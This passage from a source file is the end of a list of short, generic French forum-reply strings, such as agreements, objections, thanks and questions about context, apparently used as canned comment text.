    "Entièrement d'accord, c'est aussi ce que j'ai constaté chez mon employeur précédent.",
    "C'est un peu caricatural, non ? Il y a quand même des cas où ça fonctionne très bien.",
    "Merci pour le partage, je vais tester ça dès demain.",
    "Je nuancerais : c'était vrai il y a quelques années, beaucoup moins aujourd'hui.",
    "Haha, vécu. On a tous eu ce collègue.",
    "Bonne remarque, je n'avais pas vu les choses sous cet angle.",
    "Tu compares deux choses qui n'ont rien à voir, à mon avis.",
    "Exactement ce que j'allais écrire. Merci de l'avoir formulé mieux que moi.",
    "Dans quel contexte as-tu observé ça ? Startup, grand groupe, administration ?",
    "Ça me paraît optimiste. Attends de voir ce que ça donne à grande échelle.",
    "Pour compléter : il existe une option dans la configuration qui règle justement ce problème.",
    "Je ne dirais pas ça. Le vrai problème est ailleurs, selon moi.",
    "+1, rien à ajouter.",
    "Tu peux développer ? Je ne suis pas sûr de comprendre ton raisonnement.",
    "C'est ce qu'on croyait aussi, jusqu'au jour où la production est tombée.",
    "Je confirme, on a eu exactement le même souci l'an dernier.",
    "Attention, ce n'est valable que pour les versions récentes.",
    "Mouais. J'attends de voir des chiffres un peu plus solides avant de m'emballer.",
    "Bien vu ! Je n'avais pas pensé à ce cas particulier.",
    "Je crois que tu confonds avec un autre outil, celui-ci fonctionne différemment.",
    "On a essayé ta méthode, et franchement ça marche plutôt bien.",
    "Le problème, c'est que tout le monde n'a pas le budget pour faire comme ça.",
    "C'est drôle, j'ai lu l'article exactement dans le sens inverse.",
    "Tout à fait. Et c'est souvent le premier poste de dépense qu'on coupe, malheureusement.",
    "Pas faux. Mais dans ce cas, pourquoi personne ne l'a fait avant ?",
    "Je plussoie, avec une réserve sur le dernier point.",
    "Ton expérience est intéressante, mais elle n'est pas forcément généralisable.",
    "Merci, c'est exactement l'info qui me manquait.",
    "Je ne suis pas convaincu, mais je reconnais que l'argument se tient.",
    "C'est un peu plus subtil que ça : les deux approches peuvent coexister.",
    "Oui, et c'est pour ça qu'il faut toujours tester avant de mettre en production.",
    "Heureusement que certains prennent le temps d'expliquer, merci !",
    "Je vois ce que tu veux dire, mais la réalité du terrain est souvent plus compliquée.",
    "On est d'accord sur le constat, pas sur la solution.",
    "Ça, c'est la théorie. En pratique, personne ne lit la documentation.",
]
